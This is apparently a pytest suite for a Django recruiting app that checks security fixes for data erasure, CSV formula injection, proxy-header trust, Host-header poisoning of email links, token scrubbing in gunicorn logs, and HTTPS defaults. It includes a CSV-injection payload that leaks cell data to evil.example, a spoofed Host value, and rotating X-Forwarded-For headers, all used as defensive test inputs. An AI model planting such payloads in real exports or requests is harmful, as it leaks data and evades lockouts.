"""Issue 12, findings 4 to 9: each test names the finding it holds.

4. Erasure scrubs every name, email and phone the candidate ever had, everywhere.
5. Every CSV the app writes neutralises spreadsheet formulas with one function.
6. X-Forwarded-For is trusted only through TRUSTED_PROXY_COUNT, never by default.
7. Links in emails are built from SITE_URL, never from the request's Host.
8. gunicorn's access log carries routes, without query strings or reset tokens.
9. With DEBUG off, HTTPS-only cookies, the SSL redirect and HSTS are on by default.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import secrets
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.core import mail
from django.core.management import call_command
from django.db import connection
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from candidates import services
from candidates.accounts import client_ip
from candidates.engine import Kind, Reason
from candidates.privacy import erase_candidate, export_candidate
from reminders.emails import digest_email, reminder_email
from reminders.models import OPEN_STATES, Reminder, State
from reminders.services import reminder_create

from .factories import CandidateFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct-horse-battery"  # tests/factories.py
LOGIN = "/accounts/login/"


# --- 4. Erasure forgets every earlier name, email and phone -------------------------------

FIRST = ("Thaddeus Pennywhistle", "thaddeus.p@example.org", "+44 7700 900111")
SECOND = ("Thad Pennywhistle-Quorn", "thad.quorn@example.net", "+44 7700 900222")
THIRD = ("Teddy Orrington", "teddy@orrington.example", "+44 7700 900333")
TYPED_EMAIL = "thaddeus.private@mailbox.example"


def every_value_in_the_database() -> str:
    """Every column of every row of every table (history tables, sessions, the admin's log,
    reminders…), as one lower-case text: found by introspecting the database itself, so
    that a table no model lists is searched too."""
    values = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")  # noqa: S608
            values.extend(str(value) for row in cursor.fetchall() for value in row)
    return "\n".join(values).lower()


def test_erasure_scrubs_every_value_the_candidate_ever_had_from_every_table(
    org, recruiter, manager, org_admin
):
    """Finding 4: renamed twice, then erased: none of the three names, emails or phones,
    nor an email typed into the reason, is left in any column of any table; the erased
    candidate's open reminders are cancelled."""
    candidate = services.candidate_create(
        organization=org, name=FIRST[0], email=FIRST[1], phone=FIRST[2], owner=recruiter
    )
    # A rule's reminder ("Follow up with Thaddeus Pennywhistle") and a manual one.
    services.event_log(
        candidate=candidate,
        kind=Kind.NO_SHOW,
        occurred_on=timezone.localdate(),
        reason=Reason.PERSONAL,
        recorded_by=recruiter,
    )
    reminder_create(
        candidate=candidate,
        user=recruiter,
        title=f"Call {FIRST[0]} on {FIRST[2]}",
        body=f"Or email {FIRST[1]}",
        due_at=timezone.now() + timedelta(days=1),
        created_by=manager,
    )
    for name, email, phone in (SECOND, THIRD):
        services.candidate_update(candidate=candidate, name=name, email=email, phone=phone)
    reminder_create(
        candidate=candidate,
        user=recruiter,
        title=f"Ask {SECOND[0]} about {SECOND[1]}",
        due_at=timezone.now() + timedelta(days=2),
        created_by=manager,
    )
    assert any(r.title == f"Follow up with {FIRST[0]}" for r in candidate.reminders.all())
    before = every_value_in_the_database()
    assert all(v.lower() in before for v in (*FIRST, *SECOND, *THIRD))

    erase_candidate(
        candidate=candidate,
        erased_by=org_admin,
        reason=f"{FIRST[0]} asked by phone, from {TYPED_EMAIL}",
    )

    after = every_value_in_the_database()
    for value in (*FIRST, *SECOND, *THIRD, TYPED_EMAIL, "Pennywhistle", "Orrington", "Quorn"):
        assert value.lower() not in after, value
    assert not Reminder.objects.filter(candidate=candidate, state__in=OPEN_STATES).exists()
    assert set(candidate.reminders.values_list("state", flat=True)) == {State.CANCELLED}
    # The export and the reminders show the anonymous candidate only.
    exported = str(export_candidate(candidate)).lower()
    assert "pennywhistle" not in exported
    assert "orrington" not in exported


# --- 5. One neutraliser for every CSV -----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_the_report_commands_csv_neutralises_formulas(org):
    """Finding 5: `recovery_report --format csv` writes a formula as text, as the web export
    does."""
    CandidateFactory(organization=org, name=FORMULA, email="formula@example.org")
    CandidateFactory(organization=org, name="+1 Plus", email="plus@example.org")
    out = io.StringIO()

    call_command("recovery_report", "--org", org.slug, "--format", "csv", stdout=out)

    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["formula@example.org"]["name"] == "'" + FORMULA
    assert rows["plus@example.org"]["name"] == "'+1 Plus"


def test_the_web_export_and_the_report_use_the_same_neutraliser(client, org, recruiter):
    """Finding 5: the one function, and every CSV writer in the app goes through it."""
    from candidates import csvsafe

    CandidateFactory(organization=org, name=FORMULA, email="formula@example.org")
    client.force_login(recruiter)
    response = client.get(reverse("candidates:export"))
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["name"] for row in rows] == [csvsafe.cell(FORMULA)] == ["'" + FORMULA]

    writers = []
    for path in [*ROOT.glob("candidates/**/*.py"), *ROOT.glob("reminders/**/*.py")]:
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(", text) and path.name != "csvsafe.py":
            writers.append(path)
            assert "csvsafe" in text, f"{path} writes CSV without candidates.csvsafe"
    assert writers  # the guard above looked at something


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700", "'+44 7700"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign, which some spreadsheets read
        ("Ann O'Neil", "Ann O'Neil"),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    from candidates import csvsafe

    assert csvsafe.cell(value) == written


# --- 6. The forwarded address is trusted only when proxies are counted -------------------


def test_rotating_x_forwarded_for_does_not_escape_the_lockout_without_trusted_proxies(
    client, recruiter, settings
):
    """Finding 6: with SECURE_PROXY_SSL on and TRUSTED_PROXY_COUNT at its
    default 0, a client that reaches gunicorn directly and sends a new X-Forwarded-For with
    every guess is still one address, and is locked out."""
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    assert getattr(settings, "TRUSTED_PROXY_COUNT", 0) == 0
    answers = [
        client.post(
            LOGIN,
            {"username": recruiter.username, "password": "guess"},
            REMOTE_ADDR="192.0.2.50",
            HTTP_X_FORWARDED_FOR=f"203.0.113.{n}",
            HTTP_X_FORWARDED_PROTO="https",
        ).status_code
        for n in range(settings.AXES_FAILURE_LIMIT + 2)
    ]

    assert answers[-1] == 429, answers


@pytest.mark.parametrize(
    ("count", "forwarded", "address"),
    [
        (0, "203.0.113.9", "192.0.2.50"),
        (1, "1.2.3.4, 203.0.113.9", "203.0.113.9"),
        (2, "1.2.3.4, 203.0.113.9, 10.0.0.7", "203.0.113.9"),
        (2, "203.0.113.9", "192.0.2.50"),  # fewer hops than proxies: not through them all
        (1, "", "192.0.2.50"),
        (1, "not-an-address", "192.0.2.50"),
    ],
)
def test_the_client_address_is_the_nth_forwarded_hop_from_the_right(
    settings, count, forwarded, address
):
    settings.TRUSTED_PROXY_COUNT = count
    request = RequestFactory().get("/", REMOTE_ADDR="192.0.2.50", HTTP_X_FORWARDED_FOR=forwarded)

    assert client_ip(request) == address


# --- 7. Links in emails come from SITE_URL ------------------------------------------------

SITE = "https://recovery.example.com"
EVIL_HOST = "127.0.0.1:31337"  # allowed in the test settings (127.0.0.1), on another port


def links(text: str) -> list[str]:
    return re.findall(r"https?://[^\s\"'<>]+", text)


def test_a_password_reset_link_follows_site_url_not_the_host_header(client, recruiter, settings):
    """Finding 7."""
    settings.SITE_URL = SITE
    assert "127.0.0.1" in settings.ALLOWED_HOSTS

    response = client.post(
        reverse("password_reset"), {"email": recruiter.email}, HTTP_HOST=EVIL_HOST
    )

    assert response.status_code == 302
    (message,) = mail.outbox
    found = links(message.body)
    assert found
    assert all(link.startswith(SITE + "/") for link in found), found
    assert "31337" not in message.body
    # The link works.
    path = found[0][len(SITE) :]
    assert "Choose a new password" in client.get(path, follow=True).content.decode()


def test_a_member_invitation_link_follows_site_url_not_the_host_header(client, org_admin, settings):
    """Finding 7."""
    settings.SITE_URL = SITE
    client.force_login(org_admin)

    response = client.post(
        reverse("candidates:members"),
        {"email": "newbie@northwind.test", "first_name": "New", "role": "recruiter"},
        HTTP_HOST=EVIL_HOST,
    )

    assert response.status_code == 302
    (message,) = mail.outbox
    found = links(message.body) + links(
        "".join(str(alt[0]) for alt in getattr(message, "alternatives", []))
    )
    assert found
    assert all(link.startswith(SITE + "/") for link in found), found
    assert "31337" not in message.body


def test_reminder_emails_link_to_site_url(org, recruiter, manager, settings):
    """Finding 7 (held already; kept): reminders and digests are sent by the worker, with no
    request at all."""
    settings.SITE_URL = SITE
    candidate = CandidateFactory(organization=org)
    reminder = reminder_create(
        candidate=candidate,
        user=recruiter,
        title="Call back",
        due_at=timezone.now(),
        created_by=manager,
    )
    reminder = Reminder.objects.select_related("user", "candidate", "job__client").get(
        pk=reminder.pk
    )
    for message in (
        reminder_email(reminder),
        digest_email(recruiter, date.today(), [], [reminder]),
    ):
        text = message.body + "".join(str(alt[0]) for alt in message.alternatives)
        found = links(text)
        assert found
        assert all(link.startswith(SITE + "/") for link in found), found


# --- 8. Access logs without query strings or tokens ---------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def database_url() -> str:
    db = connection.settings_dict
    if connection.vendor == "sqlite":
        return f"sqlite:///{db['NAME']}"
    auth = db["USER"] + (f":{db['PASSWORD']}" if db["PASSWORD"] else "")
    port = f":{db['PORT']}" if db["PORT"] else ""
    return f"postgres://{auth}@{db['HOST']}{port}/{db['NAME']}"


def test_gunicorns_access_log_carries_no_query_string_and_no_reset_token(tmp_path):
    """Finding 8: a real gunicorn with the deployment's config (gunicorn.conf.py, as
    docker-compose.yml's web command names it)."""
    port = free_port()
    access_log = tmp_path / "access.log"
    env = {
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(tmp_path),
        "DEBUG": "1",
        "SECRET_KEY": secrets.token_urlsafe(50),
        "ALLOWED_HOSTS": "127.0.0.1",
        "DATABASE_URL": database_url(),
        "BROKER_DIR": str(tmp_path / "broker"),
        "LOG_LEVEL": "WARNING",
    }
    command = [
        str(Path(sys.executable).with_name("gunicorn")),
        "--config=gunicorn.conf.py",
        "recovery.wsgi",
        f"--bind=127.0.0.1:{port}",
        "--workers=1",
        f"--access-logfile={access_log}",
        "--error-logfile=-",
    ]
    token = "cbx1zt-0a1b2c3d4e5f60718293a4b5c6d7e8f9"
    paths = [
        f"/accounts/reset/MQ/{token}/?q=secret-query",
        "/livez?q=Thaddeus+Pennywhistle",
    ]
    with subprocess.Popen(
        command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    ) as server:
        try:
            deadline = time.monotonic() + 60
            while True:
                try:
                    with urllib.request.urlopen(f"http://127.0.0.1:{port}/livez", timeout=2):
                        break
                except OSError:
                    assert server.poll() is None, server.stdout.read().decode()
                    assert time.monotonic() < deadline, "gunicorn did not answer"
                    time.sleep(0.3)
            for path in paths:
                request = urllib.request.Request(
                    f"http://127.0.0.1:{port}{path}",
                    headers={"Referer": f"http://127.0.0.1:{port}/candidates/?q=Pennywhistle"},
                )
                with contextlib.suppress(urllib.error.HTTPError):
                    urllib.request.urlopen(request, timeout=10).close()  # noqa: S310
            deadline = time.monotonic() + 10
            while access_log.read_text().count("\n") < len(paths) + 1:
                assert time.monotonic() < deadline, access_log.read_text()
                time.sleep(0.1)
        finally:
            server.terminate()
            server.wait(timeout=30)

    log = access_log.read_text()
    assert "/accounts/reset/MQ/" in log
    assert "/livez" in log
    for secret in (token, "secret-query", "Thaddeus", "Pennywhistle", "?q="):
        assert secret not in log, log


def test_the_access_logger_hides_them_whatever_the_format():
    """Finding 8: a format that asks for the request line, the query string, the Referer,
    a redirect's Location or the raw URI still gets the route only."""
    from types import SimpleNamespace

    from gunicorn.config import Config

    from recovery.gunicorn_logging import PrivateAccessLogger

    cfg = Config()
    cfg.set(
        "access_log_format",
        '"%(r)s" "%(f)s" %(U)s %(q)s %({referer}i)s %({location}o)s %({raw_uri}e)s '
        "%({query_string}e)s",
    )
    logger = PrivateAccessLogger(cfg)
    environ = {
        "REQUEST_METHOD": "GET",
        "RAW_URI": "/accounts/reset/MQ/cbx1zt-0a1b2c/?q=Pennywhistle",
        "SERVER_PROTOCOL": "HTTP/1.1",
        "PATH_INFO": "/accounts/reset/MQ/cbx1zt-0a1b2c/",
        "QUERY_STRING": "q=Pennywhistle",
        "HTTP_REFERER": "https://h.example/candidates/?q=Pennywhistle",
    }
    response = SimpleNamespace(
        status="302 Found",
        sent=0,
        headers=[("Location", "/accounts/login/?next=/candidates/%3Fq%3DPennywhistle")],
    )
    request = SimpleNamespace(headers=[("REFERER", environ["HTTP_REFERER"])])
    atoms = logger.atoms(response, request, environ, timedelta(milliseconds=3))

    line = cfg.access_log_format % logger.atoms_wrapper_class(atoms)

    assert '"GET /accounts/reset/MQ/********/ HTTP/1.1"' in line
    assert "Pennywhistle" not in line
    assert "cbx1zt" not in line
    assert "https://h.example/candidates/" in line


# --- 9. Secure by default in production ---------------------------------------------------


def bare_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """A clean environment: nothing from this shell but PATH."""
    return {
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(tmp_path),
        "SECRET_KEY": secrets.token_urlsafe(50),
        "ALLOWED_HOSTS": "recovery.example.com",
        **extra,
    }


def run_python(env: dict[str, str], *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )


def test_check_deploy_is_clean_with_only_a_secret_key_and_allowed_hosts(tmp_path):
    """Finding 9: DEBUG off by default, and nothing else set."""
    result = run_python(
        bare_env(tmp_path), "manage.py", "check", "--deploy", "--fail-level", "WARNING"
    )

    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout
    assert "WARNING" not in result.stderr


SHOW_SETTINGS = (
    "import django; django.setup(); from django.conf import settings as s;"
    "print(s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SECURE_SSL_REDIRECT,"
    " s.SECURE_HSTS_SECONDS > 0)"
)


@pytest.mark.parametrize(
    ("extra", "shown"),
    [
        ({}, "True True True True"),
        ({"DEBUG": "1"}, "False False False False"),  # make run
        (  # a plain-http trial, as docker-compose.yml's comments explain
            {
                "SESSION_COOKIE_SECURE": "0",
                "CSRF_COOKIE_SECURE": "0",
                "SECURE_SSL_REDIRECT": "0",
                "SECURE_HSTS_SECONDS": "0",
            },
            "False False False False",
        ),
    ],
)
def test_https_settings_default_on_in_production_and_off_for_development(tmp_path, extra, shown):
    env = bare_env(tmp_path, DJANGO_SETTINGS_MODULE="recovery.settings", **extra)
    result = run_python(env, "-c", SHOW_SETTINGS)

    assert result.stdout.strip() == shown, result.stderr


def test_health_checks_stay_on_plain_http_when_everything_else_redirects(tmp_path):
    """Finding 9: the production defaults redirect plain http, except /healthz and /livez."""
    env = bare_env(
        tmp_path,
        DJANGO_SETTINGS_MODULE="recovery.settings",
        ALLOWED_HOSTS="testserver",
        DATABASE_URL=f"sqlite:///{tmp_path / 'db.sqlite3'}",
        BROKER_DIR=str(tmp_path / "broker"),
    )
    script = (
        "import django; django.setup(); from django.test import Client; c = Client();"
        "print(c.get('/healthz').status_code, c.get('/livez').status_code,"
        " c.get('/accounts/login/').status_code)"
    )
    result = run_python(env, "-c", script)

    assert result.stdout.strip() == "200 200 301", result.stderr


def test_the_test_suite_runs_on_plain_http():
    assert not settings.SECURE_SSL_REDIRECT
    assert not settings.SESSION_COOKIE_SECURE
    assert apps.is_installed("candidates")
